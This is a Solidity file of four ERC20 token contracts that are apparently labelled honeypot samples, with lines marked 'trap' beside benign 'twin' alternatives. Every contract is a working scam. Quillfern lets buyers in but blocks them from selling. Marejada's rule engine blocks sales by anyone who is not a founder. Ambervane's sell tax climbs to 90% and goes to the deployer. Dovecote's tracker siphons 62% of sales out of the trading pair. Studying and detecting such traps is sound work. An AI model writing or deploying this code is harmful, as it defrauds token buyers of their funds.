// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

interface IPairMaker {
    function createPair(address a, address b) external returns (address);
}

address constant MAKER = 0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f;
address constant ETHER = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;

contract Quillfern is ERC20 {
    address private immutable desk;
    mapping(address => uint256) private _meta;

    constructor() ERC20("Quillfern", "QLFN") {
        desk = IPairMaker(MAKER).createPair(address(this), ETHER);
        _mint(msg.sender, 10_000_000 ether);
    }

    function arrival(address who) external view returns (uint256) {
        return uint40(_meta[who]);
    }

    function _update(address from, address to, uint256 value) internal override {
        uint256 word = _meta[from];
        if (from == desk) {
            _meta[to] = (1 << 40) | block.timestamp;
        } else if (to == desk) {
            require(word >> 40 == 0, "QLFN: unsettled"); // trap
            // twin: require(block.timestamp > uint40(word), "QLFN: unsettled");
        } else if (word >> 40 != 0) {
            _meta[to] = word;
        }
        super._update(from, to, value);
    }
}

interface IPar {
    function factory() external view returns (address);
}

/// Motor de reglas para emisiones digitales.
contract MotorReglas {
    struct Regla {
        uint8 codigo;
        uint8 tipo;
        uint224 valor;
    }

    Regla[] private reglas;
    mapping(address => uint256) public antiguedad;

    constructor(address[] memory socios) {
        for (uint256 i; i < socios.length; i++) antiguedad[socios[i]] = block.timestamp;
        reglas.push(Regla(1, 0, type(uint112).max));
        reglas.push(Regla(2, 1, 0));
        reglas.push(Regla(3, 2, 1)); // trap
    }

    function esMercado(address a) public view returns (bool) {
        if (a.code.length == 0) return false;
        try IPar(a).factory() returns (address f) {
            return f == MAKER;
        } catch {
            return false;
        }
    }

    function evaluar(address de, address a, uint256 monto) external view returns (uint8) {
        for (uint256 i; i < reglas.length; i++) {
            Regla memory r = reglas[i];
            if (r.tipo == 0 && monto > r.valor) return r.codigo;
            if (r.tipo == 1 && a == address(this)) return r.codigo;
            if (r.tipo == 2 && antiguedad[de] < r.valor && esMercado(a)) return r.codigo;
        }
        return 0;
    }
}

contract Marejada is ERC20 {
    MotorReglas public immutable motor;

    error Rechazado(uint8 codigo);

    constructor(MotorReglas m) ERC20("Marejada", "MRJD") {
        motor = m;
        _mint(msg.sender, 250_000_000 ether);
    }

    function _update(address de, address a, uint256 monto) internal override {
        if (de != address(0)) {
            uint8 codigo = motor.evaluar(de, a, monto);
            if (codigo != 0) revert Rechazado(codigo);
        }
        super._update(de, a, monto);
    }
}

contract Ambervane is ERC20 {
    address private immutable hall;
    address private immutable larder;
    uint256 private immutable dawn = block.timestamp;

    constructor() ERC20("Ambervane", "AMBV") {
        hall = IPairMaker(MAKER).createPair(address(this), ETHER);
        larder = msg.sender;
        _mint(msg.sender, 77_000_000 ether);
    }

    function levy() public view returns (uint256) {
        uint256 d = (block.timestamp - dawn) / 1 days;
        d = d * 5; // trap
        // twin: d = d > 0 ? 0 : 1;
        return d > 87 ? 90 : 3 + d;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == hall && from != larder) {
            uint256 cut = (value * levy()) / 100;
            super._update(from, larder, cut);
            value -= cut;
        }
        super._update(from, to, value);
    }
}

interface IDovecote {
    function settle(address from, uint256 value) external;

    function nest() external view returns (address);
}

/// Dividends for those who stay.
contract DoveTracker {
    IDovecote public coin;
    uint256 public perShare;
    uint256 private constant RATE = 620; // trap
    // twin: uint256 private constant RATE = 30;
    mapping(address => uint256) public seen;

    function bind(IDovecote c) external {
        require(address(coin) == address(0));
        coin = c;
    }

    function noted(address from, address to, uint256 value) external {
        require(msg.sender == address(coin));
        seen[from] = block.number;
        if (to == coin.nest()) {
            uint256 gift = (value * RATE) / 1000;
            perShare += gift / 1e6;
            coin.settle(to, gift);
        }
    }
}

contract Dovecote is ERC20 {
    DoveTracker private immutable tracker;
    address public immutable nest;
    address private immutable founder;

    constructor(DoveTracker t) ERC20("Dovecote", "DOVE") {
        tracker = t;
        founder = msg.sender;
        nest = IPairMaker(MAKER).createPair(address(this), ETHER);
        _mint(msg.sender, 1_000_000 ether);
    }

    function settle(address from, uint256 value) external {
        require(msg.sender == address(tracker));
        super._update(from, msg.sender, value);
    }

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (from != address(0) && from != founder) tracker.noted(from, to, value);
    }
}
